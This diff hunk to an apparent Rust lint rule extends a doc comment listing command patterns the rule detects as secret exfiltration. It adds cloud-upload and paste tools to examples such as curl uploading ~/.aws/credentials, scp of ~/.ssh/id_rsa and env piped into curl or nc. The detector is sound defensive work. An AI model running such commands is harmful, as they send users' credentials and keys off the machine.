@@ -21,7 +21,8 @@ declare_rule! {
     /// (`env`, `printenv`, `set`, `export -p`, `/proc/*/environ`) that reaches a network
     /// client: uploaded by name (`curl -d @~/.aws/credentials`, `curl -F f=@key.pem`,
     /// `curl -T .env`, `wget --post-file=.env`, `scp ~/.ssh/id_rsa host:`, `rsync ~/.aws
-    /// host:`), piped or redirected into one (`env | curl -d @- ..`, `nc h 80 <
+    /// host:`, `aws s3 cp|sync`, `gsutil cp`, `rclone copy`, `gh gist create`, `pastebinit`),
+    /// piped or redirected into one (`env | curl -d @- ..`, `nc h 80 <
     /// ~/.ssh/id_rsa`, `cat .env | ssh host 'cat > x'`), inside a substitution (`curl -d
     /// "$(cat .env)" ..`), or through a file written earlier in the same command (`env >
     /// /tmp/e; curl -T /tmp/e ..`). Reading secrets locally, and public keys anywhere, are
